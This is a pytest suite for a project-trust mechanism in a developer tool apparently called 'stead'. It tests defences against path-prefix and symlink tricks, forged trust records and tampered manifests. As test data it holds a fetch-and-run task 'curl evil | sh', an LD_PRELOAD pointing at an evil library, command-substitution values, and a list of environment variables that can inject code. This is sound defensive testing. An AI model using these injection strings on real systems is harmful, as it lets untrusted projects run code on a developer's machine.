"""The attacks that trust must withstand, each test named after one. See docs/trust.md."""

from __future__ import annotations

import json
import os
import shutil

import pytest

from stead.store import trust as store

GOOD = '[vars]\nGREETING = "hello"\n'
EVIL = '[vars]\nGREETING = "hello"\nLD_PRELOAD = "/evil.so"\n'


def test_attack_string_prefix(user, settings):
    """A trusted ``…/proj`` must not admit ``…/proj-evil``."""
    good, evil = user.write("proj/stead.toml", GOOD), user.write("proj-evil/stead.toml", EVIL)
    settings(f'[trust]\npaths = ["{good}"]\n')
    assert user.trusts(good)
    assert not user.trusts(evil)
    assert user.trusts(user.write("proj/sub/stead.toml", EVIL)), "below it is below it"


def test_attack_prefix_with_dots(user, settings):
    """``…/proj/../evil`` lies below ``…/proj`` only as a text."""
    good, evil = user.write("proj/stead.toml", GOOD), user.write("evil/stead.toml", EVIL)
    settings(f'[trust]\npaths = ["{good}"]\n')
    assert not store.TrustSettings((str(good),)).admits(f"{good}/../evil")
    assert not user.trusts(evil)


def test_attack_symlink_into_a_trusted_prefix(user, settings):
    """A link below a trusted directory to one that is not below it is not below it."""
    good, evil = user.write("proj/stead.toml", GOOD), user.write("evil/stead.toml", EVIL)
    (good / "link").symlink_to(evil)
    settings(f'[trust]\npaths = ["{good}"]\n')
    assert not user.trusts(good / "link")


def test_attack_sourced_file_changes_after_trust(user):
    """The manifest stays, but a file that it reads changes."""
    place = user.write("p/requirements.txt", "-r more/base.txt\n")
    user.write("p/more/base.txt", "good==1\n")
    user.trust(place)
    assert user.trusts(place)
    user.write("p/more/base.txt", "good==1\nevil==1\n")
    assert not user.trusts(place)
    assert any("asks for pypi evil" in line for line in user.says(place))


def test_attack_pulled_change(user):
    """A pull brings another manifest to a path that was trusted."""
    place = user.write("p/stead.toml", GOOD + '[tasks]\ntest = ["pytest"]\n')
    user.trust(place)
    user.write("p/stead.toml", GOOD + '[tasks]\ntest = ["sh", "-c", "curl evil | sh"]\n')
    assert user.says(place) == ["task test now runs `sh -c 'curl evil | sh'`"]
    assert not user.trusts(place)


def test_attack_pulled_code_that_a_build_runs(user):
    """The requirements stay, but ``setup.py`` or a build back end's settings change."""
    project = '[project]\nname = "p"\nversion = "1"\n[build-system]\nrequires = []\n'
    place = user.write("p/pyproject.toml", project + 'build-backend = "good"\n')
    user.trust(place)
    assert user.trusts(place)
    user.write("p/pyproject.toml", project + 'build-backend = "evil"\nbackend-path = ["."]\n')
    assert user.says(place) == ["changes pyproject.toml"]
    assert not user.trusts(place)


def test_attack_change_in_another_environment(user):
    """What the default environment does not show must not slip in beside it."""
    place = user.write("p/stead.toml", GOOD + '[layer.dev.vars]\nB = "1"\n')
    user.trust(place)
    user.write("p/stead.toml", GOOD + '[layer.dev.vars]\nB = "1"\nBASH_ENV = "/evil"\n')
    assert not user.trusts(place)
    assert not user.trusts(place, "dev")
    [said] = user.says(place)
    assert said.startswith("adds BASH_ENV")
    assert "environment dev" in said


def test_attack_new_environment(user):
    place = user.write("p/stead.toml", GOOD)
    user.trust(place)
    user.write("p/stead.toml", GOOD + '[layer.evil.vars]\nPATH = "/evil:${PATH}"\n')
    assert not user.trusts(place)


def test_attack_file_of_a_layer_that_was_not_looked_at(user):
    place = user.write("p/requirements.txt", "good\n")
    user.trust(place)
    user.write("p/requirements-dev.txt", "evil\n")
    assert user.trusts(place)
    assert not user.trusts(place, "dev")


def test_attack_template_run_on_cd(user, tmp_path):
    """Nothing in a manifest is a program: what looks like one stays text when it is read."""
    marker = tmp_path / "ran"
    place = user.write(
        "p/stead.toml",
        f'[vars]\nA = "$(touch {marker})"\nB = "`touch {marker}`"\n'
        f"C = \"{{{{ exec(command='touch {marker}') }}}}\"\n",
    )
    assert not user.trusts(place)
    user.trust(place)
    assert user.trusts(place)
    values = {d.name: d.value for d in user.composed(place).spec.configuration.definitions}
    assert values["A"] == f"$(touch {marker})"
    assert not marker.exists()


def test_attack_config_that_trusts_itself(user, settings):
    """A project cannot bring trust settings, by whatever name."""
    place = user.write("p/stead.toml", EVIL)
    for name in (
        ".config/stead/config.toml",
        "config.toml",
        ".stead/config.toml",
        "stead.local.toml",
    ):
        user.write(f"p/{name}", f'[trust]\npaths = ["{place}", "/"]\n')
    assert not user.trusts(place)
    user.write("p/stead.toml", GOOD + f'[trust]\npaths = ["{place}"]\n')
    with pytest.raises(Exception, match="trust"):
        user.judge(place)
    settings('[trust]\npaths = ["."]\n')
    user.write("p/stead.toml", GOOD)
    with pytest.raises(store.TrustError, match="where one stands"):
        user.judge(place)


def test_attack_relative_config_home(user):
    """``XDG_CONFIG_HOME=.config`` would let the current directory configure trust."""
    assert store.settings_file({"XDG_CONFIG_HOME": ".config", "HOME": "/home/me"}) == (
        "/home/me/.config/stead/config.toml"
    )


def test_attack_config_that_anyone_may_write(user, settings):
    place = user.write("p/stead.toml", EVIL)
    path = settings(f'[trust]\npaths = ["{place}"]\n')
    assert user.trusts(place)
    path.chmod(0o666)
    assert not user.trusts(place)


def test_attack_ready_made_stead_directory(user):
    """Records that come with a repository are never looked at."""
    other = user.write("other/stead.toml", GOOD)
    user.trust(other)
    place = user.write("p/stead.toml", EVIL)
    [record] = (user.base / "stead" / "trust").iterdir()
    forged = json.loads(record.read_text())
    forged["place"] = str(place)
    forged["files"] = store.content_digests([str(place / "stead.toml")], str(place))
    name = os.path.basename(store.record_file(user.context.home, str(place)))
    for directory in (".stead", ".stead/trust", ".stead/home/trust", "stead/trust"):
        user.write(f"p/{directory}/{name}", json.dumps(forged))
    assert not user.trusts(place)
    # The very same record in the user's own scope would do.
    shutil.copy(place / ".stead" / name, user.base / "stead" / "trust" / name)
    os.chmod(user.base / "stead" / "trust" / name, 0o600)
    assert user.trusts(place)


def test_attack_record_of_one_place_under_the_name_of_another(user):
    good, evil = user.write("good/stead.toml", GOOD), user.write("evil/stead.toml", GOOD)
    user.trust(good)
    shutil.copy(
        store.record_file(user.context.home, str(good)),
        store.record_file(user.context.home, str(evil)),
    )
    assert not user.trusts(evil)


def test_attack_parent_manifest_changed(user):
    user.write("w/stead.toml", "[workspace]\n" + GOOD)
    child = user.write("w/child/stead.toml", '[vars]\nCHILD = "1"\n')
    user.trust(child)
    assert user.trusts(child)
    user.write("w/stead.toml", "[workspace]\n" + EVIL)
    assert not user.trusts(child)
    assert any("adds LD_PRELOAD" in line for line in user.says(child))


def test_attack_parent_manifest_appears(user):
    child = user.write("w/child/stead.toml", '[vars]\nCHILD = "1"\n')
    user.trust(child)
    user.write("w/stead.toml", "[workspace]\n" + EVIL)
    assert not user.trusts(child)


def test_attack_manifest_taken_away(user):
    """Without the child's word, what it held back from the parent would apply."""
    user.write("w/stead.toml", '[workspace]\nmembers = ["c"]\n[vars]\nPYTHONSTARTUP = "/x"\n')
    child = user.write("w/c/stead.toml", "[vars]\nPYTHONSTARTUP = false\n")
    user.write("w/c/requirements.txt", "")
    user.trust(child)
    (child / "stead.toml").unlink()
    assert not user.trusts(child)
    assert any("adds PYTHONSTARTUP" in line for line in user.says(child))


def test_attack_used_module_changed(user):
    user.write("lib/stead.toml", '[vars]\nLIB = "1"\n')
    place = user.write("p/stead.toml", '[uses]\nlib = { path = "../lib" }\n')
    user.trust(place)
    assert user.trusts(place)
    user.write("lib/stead.toml", '[vars]\nLIB = "1"\nPERL5OPT = "-Mevil"\n')
    assert not user.trusts(place)


def test_attack_symlink_swap(user):
    """The path stays, and leads somewhere else."""
    good, evil = user.write("good/stead.toml", GOOD), user.write("evil/stead.toml", GOOD)
    link = user.tree / "link"
    link.symlink_to(good)
    user.trust(link)
    assert user.trusts(link)
    assert user.trusts(good), "trust is in the place, not in the name"
    link.unlink()
    link.symlink_to(evil)
    assert not user.trusts(link)


def test_attack_symlinked_manifest_swap(user):
    user.write("a/one.toml", GOOD)
    user.write("a/two.toml", EVIL)
    place = user.write("p/x", "")
    (place / "stead.toml").symlink_to(user.tree / "a" / "one.toml")
    user.trust(place)
    assert user.trusts(place)
    (place / "stead.toml").unlink()
    (place / "stead.toml").symlink_to(user.tree / "a" / "two.toml")
    assert not user.trusts(place)


def test_attack_registry_at_another_address(user):
    """What a token is sent to is not changed without a yes."""
    team = '\n[registries]\nteam = "https://%s.example.org/registry"\n'
    place = user.write("p/stead.toml", GOOD + team % "parts")
    user.trust(place)
    assert user.trusts(place)
    user.write("p/stead.toml", GOOD + team % "evil")
    assert not user.trusts(place)


def test_attack_manifest_of_another_user(user, monkeypatch):
    """In a directory that all may write, somebody else's manifest does not count."""
    user.write("shared/stead.toml", EVIL)
    mine = user.write("shared/mine/stead.toml", GOOD)
    user.trust(mine)
    theirs = user.tree / "shared" / "stead.toml"
    if os.getuid() == 0:
        os.chown(theirs, 12345, -1)
        assert str(theirs) not in user.composed(mine).spec.inputs
    else:  # the same, seen from the other side
        monkeypatch.setattr(os, "getuid", lambda: os.stat(theirs).st_uid + 1)
        with pytest.raises(Exception, match="another user"):
            user.composed(mine)


def test_attack_record_of_another_user(user, monkeypatch):
    place = user.write("p/stead.toml", GOOD)
    user.trust(place)
    record = store.record_file(user.context.home, str(place))
    if os.getuid() == 0:
        os.chown(record, 12345, -1)
    else:
        monkeypatch.setattr(os, "getuid", lambda: os.stat(record).st_uid + 1)
    assert store.read(user.context.home, str(place)) is None


def test_attack_sibling_of_a_trusted_child(user):
    """Trusting the parent, or one child, says nothing about another child."""
    parent = user.write("w/stead.toml", "[workspace]\n" + GOOD)
    one = user.write("w/one/stead.toml", '[vars]\nONE = "1"\n')
    two = user.write("w/two/stead.toml", EVIL.replace("GREETING", "TWO"))
    user.trust(parent)
    user.trust(one)
    assert user.trusts(parent)
    assert user.trusts(one)
    assert not user.trusts(two)


@pytest.mark.parametrize(
    "name",
    [
        "LD_PRELOAD",
        "LD_LIBRARY_PATH",
        "DYLD_INSERT_LIBRARIES",
        "PATH",
        "PROMPT_COMMAND",
        "PS1",
        "ENV",
        "PYTHONSTARTUP",
        "PYTHONPATH",
        "PYTHONWARNINGS",
        "PERL5OPT",
        "RUBYOPT",
        "NODE_OPTIONS",
        "JAVA_TOOL_OPTIONS",
        "GIT_SSH_COMMAND",
        "GIT_EXTERNAL_DIFF",
        "EDITOR",
        "PAGER",
        "LESSOPEN",
        "BROWSER",
        "CC",
        "PIP_INDEX_URL",
        "UV_INDEX_URL",
        "HTTPS_PROXY",
        "SSL_CERT_FILE",
        "XDG_CONFIG_HOME",
        "ZDOTDIR",
        "HOME",
        "SOMETHING_NOBODY_KNOWS",
    ],
)
def test_attack_variable_added_later(user, name):
    """Each name that is not known to be harmless asks, the well-known ones with a reason."""
    place = user.write("p/stead.toml", GOOD)
    user.trust(place)
    user.write("p/stead.toml", GOOD + f'{name} = "x"\n')
    assert not user.trusts(place)
    [said] = user.says(place)
    assert said.startswith(f"adds {name}")
    assert ("run or reach something else" in said) == (name != "SOMETHING_NOBODY_KNOWS")


def test_attack_harmless_name_with_a_harmful_value(user):
    place = user.write("p/stead.toml", GOOD)
    user.trust(place)
    for value in ("/evil/locale", "$(evil)", "a;b", "x" * 300):
        user.write("p/stead.toml", GOOD + f'LANG = "{value}"\n')
        assert not user.trusts(place), value


def test_attack_lock_changed(user):
    """A lock that names other artifacts installs other code."""
    place = user.write("p/stead.toml", GOOD)
    user.write("p/stead.lock", "version = 1\n")
    user.trust(place)
    assert user.trusts(place)
    user.write("p/stead.lock", "version = 1\n\n")
    assert user.says(place) == ["changes the lock: other packages may be installed"]
    assert not user.trusts(place)


def test_attack_own_edit_on_top_of_a_foreign_one(user):
    """Stead's own edits carry trust over; an edit made for another manifest does not."""
    place = user.write("p/stead.toml", GOOD)
    lock = user.tree / "p" / "stead.lock"
    user.trust(place)
    user.write("p/stead.toml", EVIL)
    user.own_edit({str(lock): (None, b"version = 1\n")})
    lock.write_bytes(b"version = 1\n")
    user.write("p/stead.toml", GOOD)
    assert not user.trusts(place), "the lock was made for the evil manifest"


def test_attack_pipe_in_place_of_a_manifest(user):
    """A reader must not wait for a pipe that nobody writes to."""
    place = user.write("p/stead.toml", GOOD)
    os.mkfifo(place / "pipe")
    assert store.file_digest(str(place / "pipe")) == store.GONE
